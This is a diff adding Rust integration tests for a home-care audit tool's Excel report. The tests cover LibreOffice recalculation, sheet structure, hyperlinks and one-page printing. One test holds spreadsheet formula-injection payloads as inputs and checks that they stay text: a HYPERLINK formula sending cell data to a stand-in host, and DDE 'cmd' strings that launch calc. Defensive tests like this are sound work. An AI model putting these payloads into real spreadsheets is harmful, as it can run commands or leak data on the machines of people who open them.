@@ -1,0 +1,478 @@
+//! The report workbook, checked by a real spreadsheet program: LibreOffice
+//! recalculates every formula and must get the values the library cached;
+//! `Souhrn` renders on one page; input text never becomes a formula.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use calamine::{Data, Reader, Xlsx, open_workbook};
+use chrono::NaiveDate;
+use homecare_audit::audit::Audit;
+use homecare_audit::xlsx::{
+    InputCell, InputWorkbook, ReadOptions, ReportWorkbook, read_bytes, read_path,
+};
+use homecare_audit::{Client, Dataset, Lang, Period, Provider, Role, Visit, Worker};
+use rust_decimal::Decimal;
+
+use crate::common::root;
+
+/// A fresh folder for one test's files.
+fn scratch(name: &str) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("homecare-report-{name}-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    dir
+}
+
+/// The sample's report in `dir`.
+fn sample_report(dir: &Path, lang: Lang) -> PathBuf {
+    let (ds, problems) = read_path(root("fixtures/sample.xlsx"), &ReadOptions::default()).unwrap();
+    let report = Audit::new(&ds).problems(&problems).run();
+    let path = dir.join("report.xlsx");
+    ReportWorkbook::new(&report, &ds)
+        .lang(lang)
+        .save(&path)
+        .unwrap();
+    path
+}
+
+/// `soffice`, or `None` with the reason printed. With `CI=true` a missing
+/// LibreOffice fails the test: CI installs it.
+fn soffice(test: &str) -> Option<&'static str> {
+    let found = Command::new("soffice")
+        .arg("--version")
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if found {
+        return Some("soffice");
+    }
+    if std::env::var("CI").is_ok_and(|v| v == "true") {
+        panic!("{test}: LibreOffice (soffice) is not installed, and CI=true requires it");
+    }
+    eprintln!(
+        "SKIPPED {test}: LibreOffice (soffice) is not installed; \
+         install libreoffice-calc-nogui to run it"
+    );
+    None
+}
+
+/// A LibreOffice profile that recalculates every formula on load
+/// (`OOXMLRecalcMode` 0; by default LibreOffice keeps cached values).
+fn recalculating_profile(dir: &Path) -> String {
+    let user = dir.join("profile/user");
+    std::fs::create_dir_all(&user).unwrap();
+    let item = |mode: &str| {
+        format!(
+            "<item oor:path=\"/org.openoffice.Office.Calc/Formula/Load\">\
+             <prop oor:name=\"{mode}\" oor:op=\"fuse\"><value>0</value></prop></item>"
+        )
+    };
+    std::fs::write(
+        user.join("registrymodifications.xcu"),
+        format!(
+            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
+             <oor:items xmlns:oor=\"http://openoffice.org/2001/registry\" \
+             xmlns:xs=\"http://www.w3.org/2001/XMLSchema\" \
+             xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\">{}{}</oor:items>\n",
+            item("OOXMLRecalcMode"),
+            item("ODFRecalcMode")
+        ),
+    )
+    .unwrap();
+    format!("file://{}", dir.join("profile").display())
+}
+
+/// Converts `file` with LibreOffice into `out/` as `format`.
+fn convert(exe: &str, profile: &str, file: &Path, format: &str, out: &Path) -> PathBuf {
+    let status = Command::new(exe)
+        .arg(format!("-env:UserInstallation={profile}"))
+        .args(["--headless", "--convert-to", format])
+        .arg("--outdir")
+        .arg(out)
+        .arg(file)
+        .output()
+        .unwrap();
+    assert!(
+        status.status.success(),
+        "soffice failed: {}",
+        String::from_utf8_lossy(&status.stderr)
+    );
+    let ext = format.split(':').next().unwrap();
+    let converted = out.join(file.file_stem().unwrap()).with_extension(ext);
+    assert!(converted.exists(), "{} not written", converted.display());
+    converted
+}
+
+/// Every cell of every sheet, by (sheet, row, col) in absolute positions.
+fn cells(path: &Path) -> BTreeMap<(String, u32, u32), Data> {
+    let mut wb: Xlsx<_> = open_workbook(path).unwrap();
+    let mut out = BTreeMap::new();
+    for name in wb.sheet_names() {
+        let range = wb.worksheet_range(&name).unwrap();
+        let (r0, c0) = range.start().unwrap_or((0, 0));
+        for (r, c, v) in range.used_cells() {
+            out.insert((name.clone(), r0 + r as u32, c0 + c as u32), v.clone());
+        }
+    }
+    out
+}
+
+/// The positions of formula cells.
+fn formula_cells(path: &Path) -> Vec<(String, u32, u32, String)> {
+    let mut wb: Xlsx<_> = open_workbook(path).unwrap();
+    let mut out = Vec::new();
+    for name in wb.sheet_names() {
+        let range = wb.worksheet_formula(&name).unwrap();
+        let (r0, c0) = range.start().unwrap_or((0, 0));
+        for (r, c, f) in range.used_cells() {
+            if !f.is_empty() {
+                out.push((name.clone(), r0 + r as u32, c0 + c as u32, f.clone()));
+            }
+        }
+    }
+    out
+}
+
+fn same(a: &Data, b: &Data) -> bool {
+    let num = |d: &Data| match d {
+        Data::Float(f) => Some(*f),
+        Data::Int(i) => Some(*i as f64),
+        _ => None,
+    };
+    match (num(a), num(b)) {
+        (Some(x), Some(y)) => (x - y).abs() <= 1e-9 * x.abs().max(y.abs()).max(1.0),
+        _ => {
+            let text = |d: &Data| match d {
+                Data::String(s) => s.clone(),
+                Data::Empty => String::new(),
+                other => format!("{other:?}"),
+            };
+            text(a) == text(b)
+        }
+    }
+}
+
+#[test]
+fn libreoffice_recalculates_every_formula_to_the_cached_value() {
+    let Some(exe) = soffice("libreoffice_recalculates_every_formula_to_the_cached_value") else {
+        return;
+    };
+    let dir = scratch("recalc");
+    let profile = recalculating_profile(&dir);
+
+    // First prove the profile recalculates: a formula cached as 0 must
+    // come back as 2.
+    let canary = dir.join("canary.xlsx");
+    let mut wb = rust_xlsxwriter::Workbook::new();
+    wb.add_worksheet()
+        .write_formula(0, 0, rust_xlsxwriter::Formula::new("1+1").set_result("0"))
+        .unwrap();
+    wb.save(&canary).unwrap();
+    let out = dir.join("out");
+    let recalculated = convert(exe, &profile, &canary, "xlsx", &out);
+    let c = cells(&recalculated);
+    assert_eq!(
+        c.get(&("Sheet1".to_string(), 0, 0)),
+        Some(&Data::Float(2.0)),
+        "LibreOffice did not recalculate: the profile setting was ignored"
+    );
+
+    for lang in [Lang::Cs, Lang::En] {
+        let sub = dir.join(format!("{lang:?}"));
+        std::fs::create_dir_all(&sub).unwrap();
+        let report = sample_report(&sub, lang);
+        let formulas = formula_cells(&report);
+        let cached = cells(&report);
+        // Indicators, detail rows, summary links: hundreds of formulas.
+        assert!(formulas.len() > 200, "only {} formulas", formulas.len());
+        // Every available indicator's value (column C of the indicators
+        // sheet) is a formula, not a pasted number.
+        let ind_sheet = lang.pick("Ukazatele", "Indicators");
+        let values: Vec<_> = cached
+            .iter()
+            .filter(|((s, r, c), v)| {
+                s == ind_sheet && *r > 0 && *c == 2 && matches!(v, Data::Float(_))
+            })
+            .collect();
+        assert!(values.len() > 50, "{} indicator values", values.len());
+        for ((s, r, c), _) in &values {
+            assert!(
+                formulas
+                    .iter()
+                    .any(|(fs, fr, fc, _)| fs == s && fr == r && fc == c),
+                "{s}!C{} is a number, not a formula",
+                r + 1
+            );
+        }
+        let recalculated = cells(&convert(exe, &profile, &report, "xlsx", &sub.join("out")));
+
+        let mut checked = 0;
+        for (sheet, r, c, f) in &formulas {
+            let key = (sheet.clone(), *r, *c);
+            let before = cached.get(&key).cloned().unwrap_or(Data::Empty);
+            let after = recalculated.get(&key).cloned().unwrap_or(Data::Empty);
+            assert!(
+                same(&before, &after),
+                "{lang:?} {sheet}!R{}C{} ={f}: cached {before:?}, LibreOffice {after:?}",
+                r + 1,
+                c + 1
+            );
+            checked += 1;
+        }
+        assert_eq!(checked, formulas.len());
+        for ((sheet, r, c), v) in &recalculated {
+            assert!(
+                !matches!(v, Data::Error(_)),
+                "{sheet}!R{}C{} is an error after recalculation: {v:?}",
+                r + 1,
+                c + 1
+            );
+        }
+    }
+}
+
+/// Text cells of a sheet that are formulas.
+fn formulas_of(path: &Path, sheet: &str) -> Vec<String> {
+    let mut wb: Xlsx<_> = open_workbook(path).unwrap();
+    let range = wb.worksheet_formula(sheet).unwrap();
+    range
+        .used_cells()
+        .map(|(_, _, f)| f.clone())
+        .filter(|f| !f.is_empty())
+        .collect()
+}
+
+#[test]
+fn input_text_that_looks_like_a_formula_stays_text() {
+    // Formula-injection payloads as they arrive in a provider's workbook:
+    // in ids, names and in a value that gets rejected.
+    let hostile_client = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klikni\")";
+    let hostile_worker = "+cmd|' /C calc'!A0";
+    let hostile_name = "=1+1";
+    let day = NaiveDate::from_ymd_opt(2025, 3, 3).unwrap();
+    let mut b = Dataset::builder();
+    let mut p = Provider::new(hostile_name);
+    p.period = Period::new(day, NaiveDate::from_ymd_opt(2025, 3, 31).unwrap());
+    b.provider(p);
+    let w = b
+        .worker(Worker::new(hostile_worker, Role::Pss, Decimal::ONE))
+        .unwrap();
+    let c = b.client(Client::new(hostile_client)).unwrap();
+    let task = b.find_task("a1").unwrap();
+    b.visit(Visit::new(day, w, Some(c), task, 3600)).unwrap();
+    let ds = b.build();
+    let mut input = InputWorkbook::new(&ds);
+    // A visit row whose date is a payload: rejected, its raw value listed.
+    input.extra_visit_row(vec![
+        InputCell::Text("@SUM(1+1)*cmd|' /C calc'!A0".into()),
+        InputCell::Text(hostile_worker.into()),
+        InputCell::Text(hostile_client.into()),
+        InputCell::Text("a1".into()),
+        InputCell::Empty,
+        InputCell::Empty,
+        InputCell::Number(60.0),
+    ]);
+    let bytes = input.to_buffer().unwrap();
+    let (ds, problems) = read_bytes(&bytes, Some("vstup.xlsx"), &ReadOptions::default()).unwrap();
+    assert_eq!(ds.clients[0].id, hostile_client);
+    assert_eq!(problems.rejections().count(), 1);
+    let report = Audit::new(&ds).problems(&problems).run();
+    let dir = scratch("injection");
+    let path = dir.join("report.xlsx");
+    ReportWorkbook::new(&report, &ds).save(&path).unwrap();
+
+    let all = cells(&path);
+    let text_at = |sheet: &str, r: u32, c: u32| all.get(&(sheet.to_string(), r, c)).cloned();
+    assert_eq!(
+        text_at("Klienti", 1, 0),
+        Some(Data::String(hostile_client.into()))
+    );
+    assert_eq!(
+        text_at("Pracovníci", 1, 0),
+        Some(Data::String(hostile_worker.into()))
+    );
+    assert_eq!(
+        text_at("Metodika", 2, 1),
+        Some(Data::String(hostile_name.into()))
+    );
+    assert_eq!(
+        text_at("Chyby", 1, 1),
+        Some(Data::String("@SUM(1+1)*cmd|' /C calc'!A0".into()))
+    );
+    // None of these sheets has a formula built from input text.
+    for sheet in ["Klienti", "Chyby", "Nálezy"] {
+        assert!(formulas_of(&path, sheet).is_empty(), "{sheet}");
+    }
+    // Pracovníci has its own row formulas only (worked hours, utilisation).
+    for f in formulas_of(&path, "Pracovníci") {
+        assert!(f.starts_with("M2+") || f.starts_with("IF(K2"), "{f}");
+    }
+    // Metodika's only formulas are the period's days and annual factor.
+    assert_eq!(formulas_of(&path, "Metodika"), ["B7-B6+1", "365/B8"]);
+}
+
+#[test]
+fn sheets_links_and_methodology() {
+    let dir = scratch("structure");
+    for (lang, names) in [
+        (
+            Lang::Cs,
+            [
+                "Souhrn",
+                "Ukazatele",
+                "Pracovníci",
+                "Klienti",
+                "Měsíce",
+                "Náklady",
+                "Nálezy",
+                "Chyby",
+                "Metodika",
+            ],
+        ),
+        (
+            Lang::En,
+            [
+                "Summary",
+                "Indicators",
+                "Workers",
+                "Clients",
+                "Months",
+                "Costs",
+                "Findings",
+                "Rejected",
+                "Methodology",
+            ],
+        ),
+    ] {
+        let path = sample_report(&dir, lang);
+        let wb: Xlsx<_> = open_workbook(&path).unwrap();
+        assert_eq!(wb.sheet_names(), names);
+    }
+    let path = sample_report(&dir, Lang::Cs);
+    let all = cells(&path);
+    let at = |sheet: &str, r: u32, c: u32| all.get(&(sheet.to_string(), r, c)).cloned();
+
+    // The input's SHA-256 (64 hex digits) and file name in Metodika.
+    let (ds, _) = read_path(root("fixtures/sample.xlsx"), &ReadOptions::default()).unwrap();
+    let sha = ds.source.sha256.clone().unwrap();
+    assert_eq!(sha.len(), 64);
+    assert!(
+        sha.bytes()
+            .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase())
+    );
+    assert_eq!(at("Metodika", 15, 1), Some(Data::String(sha)));
+    assert_eq!(
+        at("Metodika", 14, 1),
+        Some(Data::String("sample.xlsx".into()))
+    );
+    // The period 1.1.–31.12.2025 has 365 days: annual factor 1.
+    assert_eq!(at("Metodika", 7, 1), Some(Data::Float(365.0)));
+    assert_eq!(at("Metodika", 8, 1), Some(Data::Float(1.0)));
+
+    // Rejected rows name their input place and link into the input file.
+    // The sample's first defect is an unknown client in column C of the
+    // row after the generator's visits (see cli.rs).
+    let n = homecare_audit::synth::Synth::new(2025, 6000)
+        .dataset()
+        .visits
+        .len();
+    let place = format!("Výkazy!C{}", n + 2);
+    let chyby_row = all
+        .iter()
+        .find(|((s, _, c), v)| s == "Chyby" && *c == 0 && **v == Data::String(place.clone()))
+        .map(|((_, r, _), _)| *r)
+        .unwrap_or_else(|| panic!("{place} not in Chyby"));
+    assert_eq!(
+        at("Chyby", chyby_row, 1),
+        Some(Data::String("K99999".into()))
+    );
+    // Excel's form: the file in the relationship, the cell in `location`.
+    let sheet_xml = zip_entry(&path, "xl/worksheets/sheet8.xml");
+    let rels = zip_entry(&path, "xl/worksheets/_rels/sheet8.xml.rels");
+    assert!(
+        sheet_xml.contains(&format!(
+            "<hyperlink ref=\"A{}\" r:id=\"rId1\" location=\"'Výkazy'!C{}\"/>",
+            chyby_row + 1,
+            n + 2
+        )),
+        "no link to the input place in Chyby"
+    );
+    assert!(rels.contains("Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"sample.xlsx\" TargetMode=\"External\""));
+}
+
+/// One entry of a zip archive as text.
+fn zip_entry(path: &Path, name: &str) -> String {
+    let file = std::fs::File::open(path).unwrap();
+    let mut zip = zip::ZipArchive::new(file).unwrap();
+    let mut s = String::new();
+    std::io::Read::read_to_string(&mut zip.by_name(name).unwrap(), &mut s).unwrap();
+    s
+}
+
+#[test]
+fn summary_prints_on_one_landscape_page() {
+    let Some(exe) = soffice("summary_prints_on_one_landscape_page") else {
+        return;
+    };
+    let dir = scratch("render");
+    let report = sample_report(&dir, Lang::Cs);
+    // LibreOffice prints every sheet; Souhrn is first, so page 1 is Souhrn.
+    let profile = recalculating_profile(&dir);
+    let pdf = convert(exe, &profile, &report, "pdf", &dir.join("out"));
+    let text = |page: u32| {
+        let out = Command::new("pdftotext")
+            .args(["-f", &page.to_string(), "-l", &page.to_string(), "-layout"])
+            .arg(&pdf)
+            .arg("-")
+            .output()
+            .expect("pdftotext (poppler-utils) is needed with soffice");
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let page1 = text(1);
+    // One page wide: the leftmost column (the title, the indicator labels)
+    // and the rightmost (the note column, the chart titles) on page 1 ...
+    for needle in [
+        "Audit pečovatelské služby",
+        "Náklady na hodinu přímé péče",
+        "Poznámka",
+        "Struktura nákladů",
+        "Měsíční vývoj",
+        "Podle stupně příspěvku na péči",
+    ] {
+        assert!(page1.contains(needle), "page 1 lacks {needle:?}:\n{page1}");
+    }
+    // ... and page 2 is already the next sheet.
+    assert!(text(2).contains("Oblast"), "page 2 is not Ukazatele");
+    // Landscape: the page is wider than high.
+    let info = Command::new("pdfinfo").arg(&pdf).output().unwrap();
+    let info = String::from_utf8_lossy(&info.stdout);
+    let size = info
+        .lines()
+        .find(|l| l.starts_with("Page size:"))
+        .unwrap()
+        .to_string();
+    let nums: Vec<f64> = size
+        .split_whitespace()
+        .filter_map(|w| w.parse().ok())
+        .collect();
+    assert!(nums[0] > nums[1], "{size}");
+    // The picture for the README.
+    let png = dir.join("souhrn");
+    let status = Command::new("pdftoppm")
+        .args(["-f", "1", "-l", "1", "-png", "-r", "110", "-singlefile"])
+        .arg(&pdf)
+        .arg(&png)
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let png = png.with_extension("png");
+    let bytes = std::fs::read(&png).unwrap();
+    // PNG header: width and height (big-endian) at bytes 16..24.
+    let w = u32::from_be_bytes(bytes[16..20].try_into().unwrap());
+    let h = u32::from_be_bytes(bytes[20..24].try_into().unwrap());
+    assert!(w > h, "{w}×{h}");
+    if std::env::var("HOMECARE_UPDATE_DOCS").is_ok() {
+        std::fs::copy(&png, root("docs/souhrn.png")).unwrap();
+    }
+}
